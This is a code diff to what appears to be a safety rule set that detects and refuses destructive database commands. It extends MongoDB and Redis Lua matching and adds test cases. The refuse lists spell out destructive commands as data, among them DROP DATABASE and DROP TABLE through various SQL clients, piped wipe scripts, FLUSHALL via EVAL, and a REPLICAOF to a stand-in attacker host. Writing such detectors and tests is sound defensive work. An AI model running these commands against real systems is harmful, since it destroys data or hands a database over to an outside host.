@@ -21,7 +21,7 @@ function jsCode(text: string): string {
 
 const mongoDanger: Array<[RegExp, SqlDanger, 'code' | 'raw']> = [
   [/\.dropDatabase\s*\(|\.drop\s*\(/, 'drop', 'code'],
-  [/\brunCommand\s*\(\s*\{\s*['"]?(?:dropDatabase|drop)['"]?\s*:/, 'drop', 'raw'],
+  [/\b(?:runCommand|adminCommand)\s*\(\s*\{\s*['"]?(?:dropDatabase|drop)['"]?\s*:/, 'drop', 'raw'],
   [/\.(?:deleteMany|remove)\s*\(\s*(?:\{\s*\}\s*)?[,)]/, 'delete-all', 'code'],
   [/\.updateMany\s*\(\s*\{\s*\}\s*,|\.update\s*\(\s*\{\s*\}\s*,[^;]*\bmulti\s*:\s*true/, 'update-all', 'code'],
 ];
@@ -66,9 +66,15 @@ function redisWords(line: string): string[] {
   return [...line.matchAll(/"((?:\\.|[^"\\])*)"|'([^']*)'|(\S+)/g)].map((match) => match[1] ?? match[2] ?? match[3]!);
 }
 
+// A Lua script's calls (`EVAL "redis.call('flushall')" 0`, `--eval wipe.lua`) are commands too.
+const luaCall = /\bredis\.p?call\s*\(\s*(['"])(\w+)\1((?:\s*,\s*(['"])[^'"]*\4)*)/g;
+
 function redisCommands(input: ClientInput): Array<{words: string[]; code: Code}> {
   if (input.language !== 'redis') return [];
-  return input.code.flatMap((code) => code.text.split('\n').map((line) => ({words: redisWords(line), code})));
+  return input.code.flatMap((code) => [
+    ...code.text.split('\n').map((line) => ({words: redisWords(line), code})),
+    ...[...code.text.matchAll(luaCall)].map((call) => ({words: [call[2]!, ...[...call[3]!.matchAll(/(['"])([^'"]*)\1/g)].map((arg) => arg[2]!)], code})),
+  ]);
 }
 
 function redisFlush(command: SimpleCommand, context: EvaluationContext): Hit | null {
@@ -186,7 +192,8 @@ export const databases: BuiltinRule[] = [
       "cockroach sql --url \"$DB\" -e 'DROP DATABASE bank CASCADE'", "sqlcmd -S db -Q 'DROP DATABASE shop'", 'sqlcmd -S db -i reset.sql', "duckdb warehouse.db 'DROP TABLE sales'", "bq query --use_legacy_sql=false 'DROP TABLE ds.sales'",
       'psql -c "DO \\$\\$ BEGIN EXECUTE \'DROP TABLE \' || quote_ident(\'users\'); END \\$\\$"', "psql -c 'DROP TYPE mood CASCADE'", "psql -c 'ALTER TABLE users DROP COLUMN email'", "mysql -e 'ALTER TABLE users DROP email'",
       "psql -c \"CREATE OR REPLACE TABLE t AS SELECT 1\"", 'T=$(cat name); psql -c "DROP TABLE $T"', "psql \"$URL\" -c 'DROP TABLE users' -c 'SELECT 1'", "trino --execute 'DROP TABLE hive.web.clicks'", "influx -execute 'DROP DATABASE metrics'",
-      "snowsql -q 'DROP DATABASE analytics'", "mysql -e '/*!40000 DROP DATABASE IF EXISTS shop*/'", "printf 'DROP TABLE x;' | psql",
+      "snowsql -q 'DROP DATABASE analytics'", "mysql -e '/*!40000 DROP DATABASE IF EXISTS shop*/'", "printf 'DROP TABLE x;' | psql", "psql --comm 'DROP TABLE x'", "mysql --exec='DROP TABLE x'",
+      'pv dump.sql | mysql shop', 'cat reset.sql | pv | psql', 'cat wipe.sql | tee -a restore.log | mysql shop', "mongosh --eval 'db.adminCommand({dropDatabase: 1})'",
     ],
     allow: [
       "psql -c \"SELECT 'DROP TABLE x' AS example\"", "rg -n 'DROP TABLE' migrations/", "grep -r 'DROP TABLE' .", "echo 'DROP TABLE users;' > ./examples/bad.sql", 'psql -c "SELECT count(*) FROM users"', `cat ${heredoc('DROP TABLE x;')} > notes.sql`,
@@ -278,7 +285,7 @@ export const databases: BuiltinRule[] = [
     examples: {
       refuse: [
         'redis-cli FLUSHALL', 'redis-cli -h cache -n 2 flushdb', 'redis-cli -a "$REDIS_PASSWORD" FLUSHALL ASYNC', 'echo FLUSHALL | redis-cli', 'redis-cli <<< flushdb', `redis-cli -h cache ${heredoc('SELECT 3\nFLUSHDB', 'EOF')}`,
-        'valkey-cli flushall', 'redis-cli --cluster call 10.0.0.1:6379 FLUSHALL', 'redis-cli -n 0 --no-auth-warning flushall sync', 'redis-cli REPLICAOF evil.example 6379', 'echo FLUSHALL | redis-cli --pipe',
+        'valkey-cli flushall', 'redis-cli --cluster call 10.0.0.1:6379 FLUSHALL', 'redis-cli -n 0 --no-auth-warning flushall sync', 'redis-cli REPLICAOF evil.example 6379', 'echo FLUSHALL | redis-cli --pipe', `redis-cli EVAL "redis.call('flushall')" 0`,
       ],
       allow: ['redis-cli GET key', 'redis-cli INFO', 'redis-cli DEL flushall', 'redis-cli PING', "redis-cli --scan --pattern 'session:*'", 'redis-cli REPLICAOF NO ONE', 'echo flushall | redis-cli -x SET note', 'redis-cli --rdb /backups/dump.rdb'],
     },
